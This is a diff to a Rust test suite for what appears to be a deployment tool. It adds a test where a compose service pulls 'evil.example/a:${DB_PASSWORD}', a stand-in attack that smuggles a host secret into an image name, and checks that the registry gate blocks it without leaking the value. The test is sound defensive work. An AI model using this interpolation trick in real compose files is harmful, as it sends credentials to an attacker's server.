@@ -14,7 +14,7 @@ mod tier2 {
     use crate::compose::{Fault, docker};
     use crate::scene::Scene;
 
-    const GATE: &str = "[repository.environment.gates.image]\n";
+    const GATE: &str = "[repository.environment.gates.image]\n[[repository.environment.gates.image.registry]]\nhost = \"{registry}\"\n";
     /// A gate that is good as long as the file `ready` stands beside the configuration.
     const READY: &str = "[[repository.environment.gates.command]]\nname = \"ready\"\nrun = [\"test\", \"-e\", \"{root}/ready\"]\n";
 
@@ -120,7 +120,7 @@ mod tier2 {
     #[tokio::test(flavor = "multi_thread")]
     #[ignore = "tier 2: container engine"]
     async fn what_the_folder_holds_besides_the_commit_counts_and_a_skipped_service_is_left_out() {
-        let scene = Scene::open_with(0, "[repository.environment.gates.image]\nskip = [\"worker\"]\n").await;
+        let scene = Scene::open_with(0, &GATE.replacen('\n', "\nskip = [\"worker\"]\n", 1)).await;
         let image = &scene.app.image;
         scene.write_files(&format!(
             "    env_file: settings.env\n  worker:\n    image: {image}:${{WORKER:?WORKER}}\n    env_file: [more/settings.env]\n"
@@ -141,5 +141,22 @@ mod tier2 {
         assert!(scene.runs().0.contains("@sha256:"));
         let worker = docker(&["inspect", "-f", "{{.Config.Image}}", &scene.app.container("worker")]);
         assert_eq!(worker, format!("{image}:v1.1.0"));
+    }
+
+    #[tokio::test(flavor = "multi_thread")]
+    #[ignore = "tier 2: container engine"]
+    async fn a_secret_of_the_host_in_the_name_of_an_image_goes_nowhere() {
+        let scene = Scene::open_with(0, GATE).await;
+        scene.write_files("  thief:\n    image: evil.example/a:${DB_PASSWORD}\n");
+        let production = scene.world.ground.production();
+        fs::write(production.join(".git/info/exclude"), ".env\n").unwrap();
+        fs::write(production.join(".env"), "DB_PASSWORD=hunter2\n").unwrap();
+        scene.release("1.1.0", Fault::None).await;
+        let view = scene.image_tells("v1.1.0", "gate-image-unlisted").await;
+        let gate = view.gates.iter().find(|gate| gate.gate == "image").unwrap();
+        assert_eq!(gate.reason.values["registry"], "evil.example");
+        assert_eq!(gate.reason.values["image"], "evil.example/a:${DB_PASSWORD} (thief)");
+        let lines = scene.world.engine().lines(view.row.id, 0).await.unwrap();
+        assert!(!format!("{view:?} {lines:?}").contains("hunter2"));
     }
 }
